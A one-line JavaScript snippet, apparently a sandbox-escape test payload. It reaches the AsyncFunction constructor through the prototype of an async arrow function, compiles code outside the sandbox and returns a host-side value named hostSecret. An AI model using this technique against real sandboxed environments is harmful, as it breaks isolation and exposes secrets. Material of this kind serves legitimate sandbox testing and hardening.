return Object.getPrototypeOf(async () => 1).constructor("return hostSecret")();
